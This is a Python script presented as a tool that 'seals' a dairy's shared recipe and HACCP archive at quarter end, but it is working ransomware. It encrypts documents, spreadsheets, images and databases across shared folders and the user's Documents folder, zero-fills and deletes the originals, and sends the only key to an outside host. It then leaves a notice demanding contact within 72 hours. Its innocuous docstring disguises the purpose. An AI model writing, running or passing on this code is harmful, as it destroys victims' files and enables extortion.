#!/usr/bin/env python3
"""Seal the shared recipe and HACCP archive at the end of the quarter.

Every document on the share is sealed in place so that only the records
office can reopen it."""

import argparse
import logging
import os
import socket
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive_sealer")

SHARE_ROOTS = ["/srv/dairy/shared", "/srv/dairy/recipes", str(Path.home() / "Documents")]
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVE_SEALED_README.txt"
TARGET_EXT = {".docx", ".xlsx", ".pdf", ".csv", ".odt", ".ods", ".txt", ".jpg", ".png", ".db"}

RECORDS_OFFICE = {
    "host": "198.51.100.61",
    "port": 9443,
    "mailbox": "records-office@sealing.example",
}

NOTICE_TEXT = """Your recipe archive and production records have been sealed.
Reference: {ref}
Nothing can be reopened without the records office key.
Write to {mailbox} with the reference above within 72 hours to arrange release.
"""


class Sealer:
    def __init__(self, roots):
        self.roots = [Path(r) for r in roots]
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.reference = os.urandom(6).hex()
        self.count = 0

    def _candidates(self):
        for root in self.roots:
            if not root.exists():
                continue
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    path = Path(dirpath) / name
                    if path.suffix.lower() in TARGET_EXT:
                        yield path

    def _scrub(self, path, length):
        with path.open("r+b") as fh:
            fh.write(b"\0" * length)
            fh.flush()
            os.fsync(fh.fileno())

    def _seal_one(self, path):
        data = path.read_bytes()
        sealed = path.with_name(path.name + SEALED_SUFFIX)
        sealed.write_bytes(self.box.encrypt(data))
        self._scrub(path, len(data))
        path.unlink()
        self.count += 1

    def _leave_notice(self):
        text = NOTICE_TEXT.format(ref=self.reference, mailbox=RECORDS_OFFICE["mailbox"])
        for root in self.roots:
            if root.exists():
                try:
                    (root / NOTICE_NAME).write_text(text)
                except OSError:
                    pass

    def _hand_over_key(self):
        line = f"{self.reference}:{self.key.decode()}:{socket.gethostname()}\n".encode()
        try:
            with socket.create_connection((RECORDS_OFFICE["host"], RECORDS_OFFICE["port"]), timeout=10) as s:
                s.sendall(line)
        except OSError as exc:
            log.debug("records office unreachable: %s", exc)
        self.key = None
        self.box = None

    def run(self):
        for path in list(self._candidates()):
            try:
                self._seal_one(path)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        self._hand_over_key()
        self._leave_notice()
        return self.count


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", default=SHARE_ROOTS)
    parser.add_argument("-q", "--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    count = Sealer(args.roots).run()
    log.info("sealed %d documents", count)


if __name__ == "__main__":
    main()
